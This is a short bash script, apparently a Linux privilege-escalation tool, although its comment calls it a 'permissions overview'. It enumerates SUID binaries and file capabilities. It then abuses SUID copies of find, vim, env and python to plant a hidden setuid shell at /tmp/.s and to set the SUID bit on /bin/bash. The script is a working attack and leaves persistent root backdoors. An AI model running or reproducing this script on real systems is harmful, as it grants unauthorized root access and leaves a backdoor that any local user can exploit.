#!/bin/bash
# permissions overview, then a root prompt if possible
echo "== suid files"
find / -perm -4000 -type f 2>/dev/null | tee /tmp/suid.txt
echo "== capabilities"
getcap -r / 2>/dev/null

while read -r f; do
  case "$(basename "$f")" in
    find)    "$f" . -maxdepth 0 -exec /bin/sh -p -c 'cp /bin/sh /tmp/.s; chmod 4755 /tmp/.s' \; ;;
    vim*)    "$f" -c ':py3 import os; os.setuid(0); os.system("chmod u+s /bin/bash")' -c ':q!' ;;
    env)     "$f" /bin/sh -p -c 'id > /tmp/.ok' ;;
    python*) "$f" -c 'import os; os.setuid(0); os.system("chmod u+s /bin/bash")' ;;
  esac
done < /tmp/suid.txt
/bin/bash -p -c 'whoami'
